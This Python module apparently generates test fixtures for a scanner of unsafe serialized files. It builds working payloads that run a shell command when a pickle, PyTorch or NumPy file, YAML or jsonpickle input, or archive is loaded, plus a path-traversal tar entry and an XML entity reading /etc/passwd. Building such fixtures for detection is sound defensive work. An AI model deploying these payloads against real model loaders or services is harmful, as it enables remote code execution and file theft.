"""Files that run a program when they are unpickled, evaluated or imported. No test ever loads them."""

from __future__ import annotations

import functools
import gzip
import io
import marshal
import operator
import os
import pickle
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

_SOURCE = "__import__('os').system({!r})"


class _Calls:
    """Pickles as a call of ``fn(*args)``, in whichever way its protocol writes calls down."""

    def __init__(self, fn: Callable[..., Any], *args: Any) -> None:
        self._call = fn, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._call

    def __call__(self) -> None:
        """A function that is never called: pickle needs a callable here."""


def payloads(command: str) -> dict[str, bytes]:
    """By name, files that would run the shell's ``command``."""
    return {**_by_opcode(command), **_by_callable(command), **_in_containers(command), **_not_pickle(command)}


def _by_opcode(command: str) -> dict[str, bytes]:
    text = command.encode()
    short = b"\x8c" + bytes([len(text)]) + text
    pickles = {f"REDUCE, protocol {p}": pickle.dumps(_Calls(os.system, command), protocol=p) for p in range(6)}
    return {
        **pickles,
        "GLOBAL": b"cposix\nsystem\n(S'" + text + b"'\ntR.",
        "INST": b"(S'" + text + b"'\niposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\nS'" + text + b"'\no.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n(S'" + text + b"'\nl\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04\x8c\nsubprocess\x8c\x05Popen\x93" + short + b"\x85}\x8c\x05shell\x88s\x92.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R.",
        "BUILD": b"\x80\x02ctypes\nSimpleNamespace\n)R}X\x01\x00\x00\x00acposix\nsystem\nsb0cposix\nsystem\n(S'"
        + text
        + b"'\ntR.",
        "EXT1": b"\x80\x02\x82\x01(S'" + text + b"'\ntR.",
        "PERSID": b"Pposix.system " + text + b"\n.",
        "memoized": b"cposix\nsystem\np0\n0g0\n(S'" + text + b"'\ntR.",
        "after a dictionary": b"\x80\x02}" + b"0cposix\nsystem\n(S'" + text + b"'\ntR.",
    }


def _by_callable(command: str) -> dict[str, bytes]:
    import importlib
    import pty
    import runpy
    import subprocess
    import timeit
    import webbrowser

    import numpy as np
    import torch

    source = _SOURCE.format(command)
    code = marshal.dumps(compile(source, "<payload>", "eval"))
    calls = {
        "eval": _Calls(eval, source),
        "exec": _Calls(exec, source),
        "compile": _Calls(eval, _Calls(compile, source, "<payload>", "eval")),
        "__import__": _Calls(operator.methodcaller("system", command), _Calls(__import__, "os")),
        "getattr": _Calls(_Calls(getattr, _Calls(importlib.import_module, "os"), "system"), command),  # type: ignore[arg-type]
        "open": _Calls(open, "/tmp/payload-was-opened", "w"),
        "a code object": _Calls(exec, _Calls(marshal.loads, code)),
        "functools.partial": _Calls(functools.partial(os.system, command)),
        "map": _Calls(list, _Calls(map, os.system, [command])),
        "subprocess.Popen": _Calls(subprocess.Popen, ["sh", "-c", command]),
        "subprocess.check_output_plan": _Calls(subprocess.check_output, command),
        "os.popen": _Calls(os.popen, command),
        "os.execv": _Calls(os.execv, "/bin/sh", ["sh", "-c", command]),
        "pty.spawn": _Calls(pty.spawn, ["sh", "-c", command]),
        "runpy.run_path": _Calls(runpy.run_path, "/tmp/payload.py"),
        "timeit.timeit": _Calls(timeit.timeit, source),
        "webbrowser.open": _Calls(webbrowser.open, "file:///etc/passwd"),
        "pickle.loads in a pickle": _Calls(pickle.loads, pickle.dumps(_Calls(os.system, command))),
        "torch.load in a pickle": _Calls(torch.load, "/tmp/payload.pt"),
        "torch.storage._load_from_bytes": _Calls(torch.storage._load_from_bytes, b"payload"),
        "numpy.load in a pickle": _Calls(np.load, "/tmp/payload.npy"),
    }
    return {name: pickle.dumps(call, protocol=2) for name, call in calls.items()}


def _in_containers(command: str) -> dict[str, bytes]:
    import numpy as np
    import torch

    call = _Calls(os.system, command)
    raw = pickle.dumps(call, protocol=2)
    files = {"gzip": gzip.compress(raw), "zlib, as joblib writes": zlib.compress(raw)}
    for name, zipped in (("torch.save", True), ("torch.save of before 1.6", False)):
        file = io.BytesIO()
        torch.save({"model": call}, file, _use_new_zipfile_serialization=zipped)
        files[name] = file.getvalue()
    file = io.BytesIO()
    np.save(file, np.array([call], dtype=object), allow_pickle=True)
    files["npy with objects"] = file.getvalue()
    file = io.BytesIO()
    np.savez(file, a=np.array([call], dtype=object))
    files["npz with objects"] = file.getvalue()
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as tar:
        entry = tarfile.TarInfo("../../data.pkl")
        entry.size = len(raw)
        tar.addfile(entry, io.BytesIO(raw))
    files["tar that climbs out"] = file.getvalue()
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("__main__.py", _SOURCE.format(command))
        archive.writestr("archive/data.pkl", raw)
    files["zip with __main__.py"] = file.getvalue()
    return files


def _not_pickle(command: str) -> dict[str, bytes]:
    source = _SOURCE.format(command)
    return {
        "marshal": marshal.dumps(compile(source, "<payload>", "exec")),
        "Python source": f"{source}\n".encode(),
        "a shell script": f"#!/bin/sh\n{command}\n".encode(),
        "YAML": f"!!python/object/apply:os.system [{command!r}]\n".encode(),
        "jsonpickle": f'{{"py/reduce": [{{"py/function": "posix.system"}}, {{"py/tuple": ["{command}"]}}]}}'.encode(),
        "XML with an entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }
